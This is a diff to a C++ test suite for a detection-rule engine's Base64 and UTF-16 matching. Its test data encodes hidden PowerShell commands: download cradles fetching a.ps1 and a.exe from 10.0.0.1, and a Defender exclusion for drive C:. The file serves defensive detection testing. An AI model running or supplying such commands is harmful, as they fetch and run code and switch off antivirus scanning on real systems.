@@ -35,6 +35,13 @@ constexpr const char* kUtf8Off1 =
 constexpr const char* kUtf8Off2 =
     "JHg9MTIzOyBJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMC4wLjAuMS9hLnBzMScp";
 
+// "(New-Object Net.WebClient).DownloadFile('http://10.0.0.1/a.exe','a.exe')" in UTF-16LE, Base64 (Python):
+// the same download cradle with DownloadFile, not DownloadString. (A UTF-16BE payload is no
+// negative: it holds the UTF-16LE bytes of every substring one byte further on.)
+constexpr const char* kEncFile =
+    "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUA"
+    "KAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAuAGUAeABlACcALAAnAGEALgBlAHgAZQAnACkA";
+
 std::string Cmd(const char* enc) { return std::string("powershell.exe -NoP -NonI -W Hidden -enc ") + enc; }
 
 TEST(Encoding, Base64MatchesPython_M73) {
@@ -106,6 +113,7 @@ TEST(ModifierWideBase64Offset, RealEncodedCommand_M74_M78) {
   auto t = Compile("CommandLine|utf16le|base64offset|contains", {S("DownloadString")});
   for (const char* p : {kEnc0, kEnc4, kEnc5, kEnc6}) EXPECT_TRUE(MatchStr(t, "CommandLine", Cmd(p))) << p;
   EXPECT_FALSE(MatchStr(t, "CommandLine", Cmd(kUtf8Off0)));  // UTF-8 payload
+  EXPECT_FALSE(MatchStr(t, "CommandLine", Cmd(kEncFile)));   // DownloadFile
   EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -c (New-Object Net.WebClient).DownloadString('x')"));
   EXPECT_FALSE(MatchStr(t, "CommandLine",
                         Cmd("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")));
@@ -123,6 +131,15 @@ TEST(ModifierWideBase64Offset, SameAsSigmaHqPrecomputedStrings_M81) {
   EXPECT_EQ(lits, want);
   EXPECT_TRUE(MatchStr(t, "CommandLine", "powershell -e xQQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAx"));
   EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -e QQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQ"));
+  // "powershell Add-MpPreference -ExclusionPath C:" in UTF-16LE (Python) at byte offset 1; the same
+  // with "(" for the trailing space; UTF-8 Base64 of "Add-MpPreference ".
+  EXPECT_TRUE(MatchStr(t, "CommandLine",
+                       "powershell -e eHAAbwB3AGUAcgBzAGgAZQBsAGwAIABBAGQAZAAtAE0AcABQAHIAZQBmAGUAcgBlAG4AYwBlACAALQBF"
+                       "AHgAYwBsAHUAcwBpAG8AbgBQAGEAdABoACAAQwA6AA=="));
+  EXPECT_FALSE(MatchStr(t, "CommandLine",
+                        "powershell -e cABvAHcAZQByAHMAaABlAGwAbAAgAEEAZABkAC0ATQBwAFAAcgBlAGYAZQByAGUAbgBjAGUAKAAtAEUA"
+                        "eABjAGwAdQBzAGkAbwBuAFAAYQB0AGgAIABDADoAKQA="));
+  EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -e QWRkLU1wUHJlZmVyZW5jZSA="));
 }
 
 TEST(ModifierUtf16be, BigEndianVariants_M79) {
@@ -131,6 +148,8 @@ TEST(ModifierUtf16be, BigEndianVariants_M79) {
   EXPECT_TRUE(MatchStr(t, "X", "..BJAG4AdgBvAGsAZQAtAFcAZQBiAFIAZQBxAHUAZQBzAH.."));
   EXPECT_TRUE(MatchStr(t, "X", "..ASQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0.."));
   EXPECT_FALSE(MatchStr(t, "X", "..SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0A.."));  // the LE form
+  EXPECT_FALSE(MatchStr(t, "X", "..SW52b2tlLVdlYlJlcXVlc3Q=.."));  // UTF-8
+  EXPECT_FALSE(MatchStr(t, "X", "..AGkAbgB2AG8AawBlAC0AdwBlAGIAcgBlAHEAdQBlAHMAdA==.."));  // BE of "invoke-webrequest"
 }
 
 TEST(ModifierUtf16, BomThenBase64_M80) {
